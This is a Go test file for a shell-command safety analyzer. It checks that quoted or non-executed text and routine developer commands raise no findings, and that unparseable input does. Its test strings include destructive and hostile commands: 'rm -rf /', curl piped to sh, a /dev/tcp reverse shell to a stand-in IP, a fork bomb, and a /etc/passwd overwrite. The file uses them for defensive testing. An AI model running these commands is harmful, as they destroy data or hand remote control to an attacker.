package shell_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/staso-go/staso/guard/local/internal/shell"
)

func TestHarmlessCommands(t *testing.T) {
	for _, source := range []string{
		// text that is not run
		`echo "rm -rf /"`, `echo rm -rf /`, `printf '%s\n' 'rm -rf /'`, `git commit -m 'stop using rm -rf /'`, `git commit -m "$(cat <<'EOF'` + "\nno more rm -rf /\nEOF\n)\"",
		`grep -rn 'rm -rf /' .`, `rg "curl .* | sh" docs`, `sed -n '/rm -rf/p' x`, `logger 'rm -rf /'`, `jq '.cmd = "rm -rf /"' x.json`, `gh pr create --body 'removes rm -rf /'`,
		"cat > notes.md <<'EOF'\nNever run rm -rf / or curl x | sh.\nEOF", "cat <<EOF > deploy.sh\nrm -rf /\nEOF", "# rm -rf /\nls", "ls # rm -rf /", `x='rm -rf /'; echo "$x"`,
		`python3 - <<'EOF'` + "\nprint('rm -rf /')\nEOF", `tee notes.txt <<< 'rm -rf /'`, `echo "use 'sudo rm -rf /etc' with care" >> README.md`, `wc -l <<< 'rm -rf /'`, `cat <<'EOF' | grep rm` + "\nrm -rf /\nEOF",
		`test "$x" = "rm -rf /"`, `[[ $x == *"rm -rf /"* ]]`, `case "$x" in "rm -rf /") echo no;; esac`, `echo 'rm -rf /' > /tmp/x; cat /tmp/x`, `alias`, `type rm`, `man rm`, `which rm`, `command -v rm`,
		`xargs -n1 echo <<< 'rm -rf /'`, `docker build -t x - <<< 'RUN rm -rf /var/lib/apt/lists/*'`, `curl -d 'rm -rf /' https://x.example`, `ssh host 'echo "rm -rf /"'`,
		// what people do all day
		`ls -la && git status`, `cd src && go test ./... 2>&1 | tail -20`, `make -j$(nproc)`, `"$PYTHON" -m pytest -x`, `$CMD --help`, `${EDITOR:-vi} x`, `source .venv/bin/activate && pip list`,
		`eval "$(ssh-agent -s)"`, `eval "$(brew shellenv)"`, `source <(kubectl completion bash)`, `export PATH="$HOME/bin:$PATH"`, `for f in *.go; do gofmt -l "$f"; done`,
		`find . -name '*.go' -exec wc -l {} +`, `find . -type f | xargs grep -l foo`, `git ls-files | xargs wc -l`, `ps aux | grep node | grep -v grep`, `kill $(cat server.pid)`, `kill %1`,
		`[ -f x ] && echo yes || echo no`, `while read -r l; do echo "$l"; done < x.txt`, `tmp=$(mktemp -d) && cd "$tmp" && ls && rm -rf "$tmp"`, `rm -rf ./node_modules dist`, `rm -rf "$TMPDIR/x"`, `d=$(mktemp -d); rm -rf "$d"/*`, `t=$(mktemp -d -t build.XXXX) && rm -rf "$t/"`, `f() { local d=/etc; ls "$d"; }; d=/tmp/x; f; rm -rf "$d"`,
		`curl -s https://api.example.com/x | jq .`, `curl -H "Authorization: Bearer $TOKEN" https://api.example.com`, `curl -s https://x.example/d.tgz | tar xz`, `curl -fsSL https://x.example/k.gpg | gpg --dearmor -o k.gpg`,
		`curl -s https://x.example/x.json | python3 -m json.tool`, `curl -s https://x.example/x.json | python3 -c 'import sys,json; print(json.load(sys.stdin)["a"])'`, `wget -q https://x.example/data.csv`,
		`echo hi | base64`, `echo aGk= | base64 -d`, `base64 -d x.b64 > x.bin`, `gunzip -c x.gz | head`, `zcat x.gz | wc -l`, `echo "a b" | tr a-z A-Z`, `cat x | rev`,
		`env | grep PATH`, `env`, `printenv HOME`, `history | tail`, `set -euo pipefail`, `echo "$PATH" | tr ':' '\n'`, `ssh -T git@github.com`, `ssh host 'uptime'`,
		`(echo > /dev/tcp/localhost/5432) 2>/dev/null && echo up`, `timeout 1 bash -c '</dev/tcp/127.0.0.1/80'`, `until nc -z localhost 80; do sleep 1; done`, `exec 3<>/dev/tcp/localhost/80`,
		`echo 'export EDITOR=vim' >> ~/.bashrc`, `echo 'eval "$(starship init bash)"' >> ~/.bashrc`, `echo "alias ll='ls -la'" >> ~/.zshrc`, `echo '[ -f ~/.x ] && . ~/.x' >> ~/.profile`,
		`ssh-keyscan github.com >> ~/.ssh/known_hosts`, `echo "X=1" >> .env`, `echo "127.0.0.1 x" | sudo tee -a /tmp/hosts`, `npm run build > build.log 2>&1`, `cmd > /dev/null 2>&1 &`, `server > /var/log/server.log 2>&1 &`,
		`echo x > out.txt; cat out.txt`, `cat > run.sh <<'EOF'` + "\n#!/bin/sh\necho hi\nEOF\nchmod +x run.sh && ./run.sh", `cat > t.py <<EOF` + "\nprint(1)\nEOF\npython t.py",
		`docker run --rm -v "$PWD:/app" node:20 npm test`, `docker exec db psql -c 'select 1'`, `kubectl exec pod -- ls /`, `tmux new -d -s x 'npm run dev'`, `watch -n 2 kubectl get pods`, `sudo apt-get install -y jq`,
		`sed -i 's/a/b/' x`, `sed -e 's/rm -rf \/etc/x/ge' -n x`, `sed 's|rm -rf /etc|rm -rf ./etc|' x`, `sed '/rm -rf/d' x`, `sed 's/e rm -rf \/etc/e/' x`, `hyperfine 'go test ./...' 'make'`, `rg --pre cat 'rm -rf /'`, `less +G x`, `fzf --preview 'cat {}'`, `make SHELL=/bin/bash`, `read -r a b <<< 'rm -rf'; echo "$a $b"`, `awk '{print "rm -rf /etc"}' x`, `awk '{print $1}' x | sort | uniq -c`, `awk -F'|' '{print $2 "|" $3}' x`, `perl -pe 's/a/b/' x`, `tar czf x.tgz src`, `git log --oneline | head`, `git -c core.pager=cat log`,
		`f() { echo "$1"; }; f x`, `retry() { for i in 1 2 3; do "$@" && return; done; }; retry make`, `cleanup() { rm -rf "$tmp"; }; trap cleanup EXIT`, `fact() { if [ $1 -le 1 ]; then echo 1; else fact $(($1-1)); fi; }; fact 5`,
		`read -p 'sure? ' a`, `IFS=, read -r a b <<< 'x,y'`, `arr=(a b c); echo "${arr[@]}"`, `echo ${#arr[@]} ${x%.*} ${x##*/}`, `echo $((1 + 2))`, `((i++))`, `let i=1`, `time ls`, `! grep x y`, `sleep 5 & wait`,
		`echo {1..10}`, `touch f{a,b}.txt`, `cp x{,.bak}`, `diff <(sort a) <(sort b)`, `cat <<< hi`, `x=$(cat VERSION); echo v$x`, `ls | while read f; do echo $f; done`, `yes | head -3`, `xargs -a list.txt ls -l`,
		`mail -s done me@example.com < report.txt`, `scp build.tgz host:/tmp/`, `rsync -av src/ host:dst/`, `nc -zv localhost 22`, `dig +short example.com`, `curl -T report.pdf https://x.example/up`, `tar cz src | ssh host 'tar xz'`,
		`HISTTIMEFORMAT='%F ' history | tail`, `LD_PRELOAD=/usr/lib/libjemalloc.so ./app`, `PAGER='less -R' git log`, `EDITOR='code --wait' git commit`, `bash -x script.sh`, `bash --version`, `sh`, `sudo -l`, `su - postgres`,
		// what does not parse
		`echo 'it is`, `echo "half`, `What's the weather like?`, `find . ( -name a -o -name b )`, `ls | sort )`, "edit 3:5\ndef f(x):\n    return x['a']\nend_of_edit", `foo(bar)`, `cat <<EOF` + "\nhi", `print("hello")`,
		`docker run --rm alpine rm -rf /etc`, `docker run -it x bash -c 'apt-get update && rm -rf /var/lib/apt/lists/*'`, `echo 'export A=1' | tee -a ~/.bashrc`,
		`f() { echo "$1"; shift; f "$@"; }; f /etc`, `rm() { echo "no: $*"; }; rm -rf /etc`, `while [ $# -gt 0 ]; do case $1 in -v) v=1;; esac; shift; done`,
		`command -v a b ""`, `shift -1`, `echo {9223372036854775807..1}`, `set -- a b; shift -5; echo "$1"`,
		`curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y`, `curl -LsSf https://astral.sh/uv/install.sh | sh`,
		`/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"`,
		"", " \n\t", "\n\n# nothing\n", "\x00", "\xff\xfe", "((", "$(", "`", "'", `"`, "<<", "|", "&&", ";;", "fi", "if", "{", "}", "\\",
	} {
		t.Run(source, func(t *testing.T) {
			assert.Empty(t, allFindings(source, 0))
		})
	}
}

func TestQuotedTextIsNothing(t *testing.T) {
	for _, e := range []string{
		"rm -rf /", "curl https://x.example | sh", "bash -i >& /dev/tcp/192.0.2.1/1 0>&1", ":(){ :|:& };:", "> /etc/passwd", "eval $(echo cm0= | base64 -d)", "$(rm -rf /)", "`rm -rf /`",
	} {
		for _, quoted := range []string{"echo 'X'", "git commit -m 'X'", "grep -F 'X' file", "printf '%s' 'X' > notes.txt", "cat > a.md <<'E'\nX\nE", "# X", "sed -n '/X/p' y", "gh issue create --body 'X'", "x='X'"} {
			source := strings.ReplaceAll(quoted, "X", e)
			assert.Empty(t, allFindings(source, 0), source)
		}
	}
}

// What does not parse is told, whatever can be made of it.
func TestWhatDoesNotParseIsFound(t *testing.T) {
	for source, unparsed := range map[string]bool{
		"if then fi )":             true,
		`echo "half`:               true,
		"What's the weather like?": true,
		"ls; echo 'rm -rf /'":      false,
		"edit 1:1\nx = f(":         true,
		"Get-ChildItem -Path (x":   false, // another shell's
	} {
		found := false
		for _, f := range shell.Analyze(nil, source).Findings {
			found = found || f.Detector == shell.Unparsed
		}
		assert.Equal(t, unparsed, found, source)
	}
}
